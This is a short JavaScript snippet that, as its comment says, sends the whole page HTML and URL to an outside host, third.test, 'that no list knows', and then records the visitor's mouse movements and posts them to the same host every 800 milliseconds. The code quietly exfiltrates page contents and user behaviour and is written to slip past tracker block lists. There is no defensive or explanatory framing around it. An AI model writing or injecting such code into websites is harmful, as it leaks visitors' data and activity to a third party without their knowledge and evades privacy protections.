// Sends the page as it stands, and then where the mouse goes, to a host that no list
// knows.
navigator.sendBeacon("https://third.test/-/collect", new Blob([JSON.stringify({u: location.href, page: document.documentElement.outerHTML})]));
let way = [];
document.addEventListener("mousemove", e => way.push(e.clientX, e.clientY));
setInterval(() => {
  if (way.length) fetch("https://third.test/-/collect?way", {method: "POST", body: way.join(",")});
  way = [];
}, 800);
